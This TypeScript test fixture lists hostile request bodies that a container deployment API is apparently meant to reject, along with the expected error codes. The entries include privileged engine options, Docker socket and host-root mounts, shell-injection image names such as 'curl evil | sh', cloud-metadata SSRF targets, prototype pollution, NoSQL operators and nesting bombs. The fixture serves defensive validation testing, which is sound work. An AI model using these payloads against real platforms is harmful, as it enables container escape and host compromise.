/** A body that asks for more than anybody may have, or that was made to break something: what it adds to a plain service, and the field that has to be named. */
export type Hostile = readonly [what: string, pointer: string, over: Readonly<Record<string, unknown>>];

const volume = (over: object) => ({ volumes: [{ mount_path: '/data', ...over }] });
const hook = (over: object) => ({ deploy: { pre_deploy: { script: 'true', ...over } } });
const check = (over: object) => ({ healthcheck: { type: 'http', port: 80, path: '/', ...over } });
const port = (over: object) => ({ ports: [{ container_port: 80, ...over }] });
const config = (over: object) => ({ configs: [{ path: '/etc/app', content: 'x', ...over }] });
const nested = (depth: number): unknown => { let inner: unknown = {}; for (let level = 0; level < depth; level += 1) inner = { inner }; return inner; };
const many = <T>(count: number, make: (index: number) => T): T[] => Array.from({ length: count }, (_, index) => make(index));
const NOWHERE = `${'a'.repeat(26)}`;

/** Options of the engine that this API hasn't, as clients of other platforms would say them. */
const ENGINE_OPTIONS: readonly Hostile[] = ([
  ['privileged', true], ['Privileged', true], ['cap_add', ['SYS_ADMIN']], ['CapAdd', ['ALL']], ['capabilities', ['NET_ADMIN']], ['security_opt', ['seccomp=unconfined']], ['security_opts', ['apparmor=unconfined']],
  ['pid', 'host'], ['pid_mode', 'host'], ['PidMode', 'host'], ['ipc', 'host'], ['ipc_mode', 'host'], ['uts', 'host'], ['userns_mode', 'host'], ['cgroupns', 'host'], ['cgroup_parent', '/'], ['network_mode', 'host'], ['NetworkMode', 'container:x'],
  ['devices', ['/dev/sda:/dev/sda']], ['device_cgroup_rules', ['a *:* rwm']], ['device_requests', [{ Driver: 'nvidia' }]], ['runtime', 'runc'], ['sysctls', { 'kernel.core_pattern': '|/bin/sh' }], ['ulimits', { nofile: 1e9 }],
  ['binds', ['/var/run/docker.sock:/var/run/docker.sock']], ['Binds', ['/:/host']], ['mounts', [{ Type: 'bind', Source: '/', Target: '/host' }]], ['volumes_from', ['other']], ['volume_driver', 'local'], ['tmpfs', { '/x': 'exec' }], ['storage_opt', { size: '1T' }],
  ['host_config', { Privileged: true }], ['HostConfig', { Binds: ['/:/host'] }], ['user', 'root'], ['group_add', ['docker']], ['entrypoint', ['/bin/sh']], ['extra_hosts', ['metadata:169.254.169.254']], ['dns', ['8.8.8.8']], ['links', ['db']],
  ['oom_kill_disable', true], ['oom_score_adj', -1000], ['pids_limit', -1], ['shm_size', 1e12], ['read_only', false], ['init', true], ['isolation', 'hyperv'], ['log_driver', 'syslog'], ['log_opts', { 'syslog-address': 'tcp://10.0.0.1' }],
  ['auto_remove', true], ['restart', 'always'], ['stop_signal', 'SIGKILL; reboot'], ['hostname', 'host'], ['mac_address', '00:00:00:00:00:00'], ['node_id', `node_${NOWHERE}`], ['constructor', { name: 'x' }], ['toString', 'x'], ['$where', 'sleep(1e6)'],
] as const).map(([field, value]): Hostile => [`the option ${field}`, `/${field}`, { [field]: value }]);

const MOUNTS: readonly Hostile[] = [
  ['the engine’s socket', '/volumes/0', volume({ type: 'host_path', host_path: '/var/run/docker.sock' })],
  ['the whole host', '/volumes/0', volume({ type: 'host_path', host_path: '/' })],
  ['a way up and out', '/volumes/0', volume({ type: 'host_path', host_path: '/srv/../../etc' })],
  ['a folder of the host that nobody allowed', '/volumes/0', volume({ type: 'host_path', host_path: '/etc' })],
  ['a folder of the host by another type', '/volumes/0', volume({ name: 'x', host_path: '/etc' })],
  ['a NUL in a folder of the host', '/volumes/0', volume({ type: 'host_path', host_path: '/srv\u0000/etc' })],
  ['no absolute path', '/volumes/0', volume({ name: 'x', mount_path: 'data' })],
  ['a way up in the container', '/volumes/0', volume({ name: 'x', mount_path: '/data/../etc' })],
  ['the root of the container', '/volumes/0', volume({ name: 'x', mount_path: '/' })],
  ['the processes of the container', '/volumes/0', volume({ name: 'x', mount_path: '/proc' })],
  ['the devices of the container', '/volumes/0', volume({ name: 'x', mount_path: '/dev' })],
  ['the kernel’s files in the container', '/volumes/0', volume({ name: 'x', mount_path: '/sys/kernel' })],
  ['a NUL in a path', '/volumes/0', volume({ name: 'x', mount_path: '/data\u0000' })],
  ['an option in a path', '/volumes/0', volume({ name: 'x', mount_path: '/data:rw,shared' })],
  ['options of a driver', '/volumes/0/driver_opts', volume({ name: 'x', driver_opts: { type: 'none', o: 'bind', device: '/' } })],
  ['a driver', '/volumes/0/driver', volume({ name: 'x', driver: 'local' })],
  ['a source', '/volumes/0/source', volume({ name: 'x', source: '/' })],
  ['propagation', '/volumes/0/propagation', volume({ name: 'x', propagation: 'rshared' })],
  ['a bind for a type', '/volumes/0/type', volume({ name: 'x', type: 'bind' })],
  ['a path for a name', '/volumes/0', volume({ name: '../../../etc' })],
  ['shell text for a name', '/volumes/0', volume({ name: '$(reboot)' })],
  ['the same path twice', '/volumes', { volumes: [{ name: 'x', mount_path: '/data' }, { name: 'y', mount_path: '/data/' }] }],
  ['a volume that there isn’t', '/volumes/0', volume({ volume_id: `vol_${NOWHERE}` })],
  ['a size below nothing', '/volumes/0', volume({ name: 'x', size_bytes: -1 })],
  ['a size beyond all disks', '/volumes/0', volume({ name: 'x', size_bytes: 2 ** 60 })],
  ['a thousand volumes', '/volumes', { volumes: many(1_000, (index) => ({ name: `v${index}`, mount_path: `/v${index}` })) }],
  ['a file outside by a config', '/configs/0', config({ path: '/etc/../../root/.ssh/authorized_keys' })],
  ['a config of no absolute path', '/configs/0', config({ path: 'etc/app' })],
  ['a config over the processes', '/configs/0', config({ path: '/proc/sys/kernel/core_pattern' })],
  ['a config with a NUL in its path', '/configs/0', config({ path: '/etc/app\u0000.sh' })],
  ['a config that becomes another user', '/configs/0', config({ mode: '4755' })],
  ['a config of a mode that is none', '/configs/0', config({ mode: 'u+s' })],
  ['a config of a user below nothing', '/configs/0', config({ uid: -1 })],
  ['a config that there isn’t', '/configs/0', config({ content: undefined, config_id: `cfg_${NOWHERE}` })],
  ['a secret that there isn’t', '/secrets/KEY', { secrets: { KEY: { secret_id: `sec_${NOWHERE}` } } }],
  ['a secret under a path for a name', '/secrets/..~1..~1etc', { secrets: { '../../etc': { secret_id: `sec_${NOWHERE}`, as: 'file' } } }],
  ['a secret’s value itself', '/secrets/KEY', { secrets: { KEY: 'hunter2' } }],
];

const IMAGES: readonly Hostile[] = [
  'nginx; reboot', 'nginx && curl evil | sh', '$(reboot)', '`reboot`', 'nginx|sh', 'nginx\nreboot', 'nginx\u0000', '--privileged', '-v/:/host', 'nginx --privileged', '../../etc/passwd', 'nginx/../../x', 'file:///etc/passwd',
  'http://10.0.0.1/x', 'UPPER/Case', 'ngi\u043dx', 'nginx\u200b', 'nginx:\u202elatest', 'nginx:tag with spaces', `nginx:${'a'.repeat(200)}`, `nginx@sha256:${'g'.repeat(64)}`, 'nginx@md5:abc', '@sha256:', ':latest', '', ' ', `${'a/'.repeat(300)}b`, 'localhost:99999/x', 'registry:0/x', '${IMAGE}', '%2e%2e/x', "nginx'", 'nginx"',
].map((image): Hostile => [`the image ${JSON.stringify(image).slice(0, 40)}`, '/image', { image }]);

const NAMES: readonly Hostile[] = [
  '', ' ', '-', '-x', 'x-', 'a.b', 'a_b', 'A', 'x y', 'x\u0000', 'x\n', 'x\u0007', '\u0430pi', 'api\u200b', 'api\u202e', '\ud800', 'x'.repeat(64), '../x', '$(id)', 'x;id', '%00', 'é', 'ａpi', '💥',
].map((name): Hostile => [`the name ${JSON.stringify(name).slice(0, 30)}`, '/name', { name }]);

const TEXTS: readonly Hostile[] = [
  ['a NUL in an argument', '/args/0', { args: ['x\u0000y'] }],
  ['half a character in an argument', '/args/0', { args: ['\udc00'] }],
  ['an argument of a megabyte less a bit', '/args/0', { args: ['x'.repeat(900_000)] }],
  ['ten thousand arguments', '/args', { args: many(10_000, () => 'x') }],
  ['a program without a name', '/command/0', { command: [''] }],
  ['a NUL in a program', '/command/0', { command: ['/bin/sh\u0000'] }],
  ['a shell line for a program', '/command', { command: 'sh -c reboot' }],
  ['numbers for arguments', '/args/0', { args: [1] }],
  ['a NUL in env', '/env/KEY', { env: { KEY: 'x\u0000y' } }],
  ['an env key with =', '/env/A=B', { env: { 'A=B': 'x' } }],
  ['an env key with a line end', '/env/A\nB', { env: { 'A\nB': 'x' } }],
  ['an env key of nothing', '/env/', { env: { '': 'x' } }],
  ['an env key of look-alikes', '/env/P\u0410TH', { env: { P\u0410TH: 'x' } }],
  ['an env value of half a megabyte', '/env/KEY', { env: { KEY: 'x'.repeat(500_000) } }],
  ['twenty thousand env keys', '/env', { env: Object.fromEntries(many(20_000, (index) => [`K${index}`, 'x'])) }],
  ['an object for an env value', '/env/KEY', { env: { KEY: { valueFrom: 'x' } } }],
  ['a label of the platform’s', '/labels/waybill.owner_id', { labels: { 'waybill.owner_id': 'x' } }],
  ['the same in capitals', '/labels/Waybill.Owner_Id', { labels: { 'Waybill.Owner_Id': 'x' } }],
  ['a label key with a NUL', '/labels/a\u0000b', { labels: { 'a\u0000b': 'x' } }],
  ['a label key for a path', '/labels/..~1x', { labels: { '../x': 'x' } }],
  ['ten thousand labels', '/labels', { labels: Object.fromEntries(many(10_000, (index) => [`k${index}`, 'x'])) }],
  ['a constraint that is code', '/constraints', { constraints: ['node.labels.zone==a || process.exit()'] }],
  ['ten thousand constraints', '/constraints', { constraints: many(10_000, () => 'node.name==x') }],
];

const NUMBERS: readonly Hostile[] = [
  ['replicas below nothing', '/replicas', { replicas: -1 }],
  ['replicas beyond all nodes', '/replicas', { replicas: 1e9 }],
  ['half a replica', '/replicas', { replicas: 0.5 }],
  ['replicas as a text', '/replicas', { replicas: '1; drop' }],
  ['a number too large for one', '/replicas', { replicas: 1e308 }],
  ['a port that there isn’t', '/ports/0/container_port', port({ container_port: 70_000 })],
  ['a port of the host below nothing', '/ports/0/host_port', port({ host_port: -1 })],
  ['a range of ports', '/ports/0/host_port', port({ host_port: '1-65535' })],
  ['an address of the host', '/ports/0/host_ip', port({ host_ip: '0.0.0.0' })],
  ['another protocol', '/ports/0/protocol', port({ protocol: 'sctp' })],
  ['ten thousand ports', '/ports', { ports: many(10_000, (index) => ({ container_port: index + 1 })) }],
  ['memory without a limit', '/resources', { resources: { cpu_millis: 100, memory_bytes: 0 } }],
  ['memory below nothing', '/resources', { resources: { cpu_millis: 100, memory_bytes: -1 } }],
  ['swap', '/resources/memory_swap', { resources: { cpu_millis: 100, memory_bytes: 2 ** 26, memory_swap: -1 } }],
  ['a plan that there isn’t', '/plan', { plan: '../small', resources: undefined }],
  ['a plan beside resources', '/plan', { plan: 'small' }],
  ['restarts a thousand times a second', '/restart_policy', { restart_policy: { name: 'always', delay_ms: -5 } }],
  ['retries without end', '/restart_policy/max_retries', { restart_policy: { name: 'on-failure', max_retries: 1e12 } }],
  ['a check of somebody else', '/healthcheck/host', check({ host: '169.254.169.254' })],
  ['a check by a URL', '/healthcheck/path', check({ path: 'http://169.254.169.254/latest/meta-data' })],
  ['a check with a second header line', '/healthcheck/path', check({ path: '/ HTTP/1.1\r\nHost: evil' })],
  ['a check a thousand times a second', '/healthcheck/interval_ms', check({ interval_ms: 1 })],
  ['a check of a port that there isn’t', '/healthcheck/port', check({ port: 0 })],
  ['a check by a shell line', '/healthcheck/command', { healthcheck: { type: 'command', command: 'sh -c reboot' } }],
  ['a hook with an option of the engine', '/deploy/pre_deploy/privileged', hook({ privileged: true })],
  ['a hook with the engine’s socket', '/deploy/pre_deploy/volumes/0', hook({ volumes: [{ type: 'host_path', host_path: '/var/run/docker.sock', mount_path: '/x' }] })],
  ['a hook of an image that is code', '/deploy/pre_deploy/image', hook({ image: '$(reboot)' })],
  ['a hook without end', '/deploy/pre_deploy/timeout_ms', hook({ timeout_ms: 1e15 })],
  ['more surge than all', '/deploy/max_surge', { deploy: { max_surge: '1000000%' } }],
  ['logs to somebody else', '/logging_target', { logging_target: { type: 'syslog', address: 'tcp://169.254.169.254' } }],
  ['metrics to somebody else', '/metrics_target', { metrics_target: { type: 'remote_write', url: 'http://169.254.169.254' } }],
  ['another project’s id', '/project_id', { project_id: `prj_${NOWHERE}` }],
  ['an environment that there isn’t', '/environment_id', { environment_id: `env_${NOWHERE}` }],
  ['a query for an environment', '/environment_id', { environment_id: { $ne: null } }],
  ['a pattern for an environment', '/environment_id', { environment_id: { $regex: '.*' } }],
  ['a list for an environment', '/environment_id', { environment_id: ['env'] }],
  ['something nested a hundred deep', '/env/inner', { env: nested(100) }],
  ['a type that there isn’t', '/type', { type: 'daemon' }],
  ['a pull by another policy', '/pull_policy', { pull_policy: 'IfNotPresent' }],
];

export const HOSTILE: readonly Hostile[] = [...ENGINE_OPTIONS, ...MOUNTS, ...IMAGES, ...NAMES, ...TEXTS, ...NUMBERS];

/** Bodies that are no JSON object of a service at all: as they are sent, and how they are refused. */
export const RAW: readonly (readonly [what: string, status: number, code: string, body: string | Buffer])[] = [
  ['ten megabytes of env', 413, 'request.too_large', JSON.stringify({ env: { KEY: 'x'.repeat(10 * 1024 * 1024) } })],
  ['brackets and nothing else', 422, 'request.too_deep', `${'['.repeat(500_000)}${']'.repeat(500_000)}`],
  ['an object a hundred thousand deep', 422, 'request.too_deep', `${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}`],
  ['brackets that never close', 400, 'request.malformed', '['.repeat(500_000)],
  ['a prototype', 400, 'request.malformed', '{"__proto__":{"privileged":true}}'],
  ['a prototype, written otherwise', 400, 'request.malformed', '{"\\u005f_proto__":{"privileged":true}}'],
  ['a constructor’s prototype', 400, 'request.malformed', '{"constructor":{"prototype":{"privileged":true}}}'],
  ['bytes that are no text', 400, 'request.malformed', Buffer.from([0xff, 0xfe, 0x00, 0x7b])],
  ['a NUL and nothing else', 400, 'request.malformed', '\u0000'],
  ['a number that is none', 400, 'request.malformed', '{"replicas":NaN}'],
  ['a comment', 400, 'request.malformed', '{/* */}'],
  ['a list', 422, 'request.invalid', '[]'],
  ['a text', 422, 'request.invalid', '"x"'],
  ['nothing', 422, 'request.invalid', 'null'],
];

/** What looks like an attack and is none here: it is run as it stands, by no shell, and reaches nothing. */
export const LITERAL = {
  args: ['-c', 'echo "$0 $1 $EVIL"; trap "exit 0" TERM; while :; do sleep 1 & wait $!; done', '$(touch /pwned)', '`touch /pwned`; touch /pwned'],
  env: { EVIL: '$(touch /pwned) `touch /pwned` ${IFS} %s \\ "quoted" \'quoted\' ; && |', UNICODE: 'p\u0430yp\u0430l \u202e 💥' },
  labels: { note: '$(touch /pwned) --privileged' },
} as const;
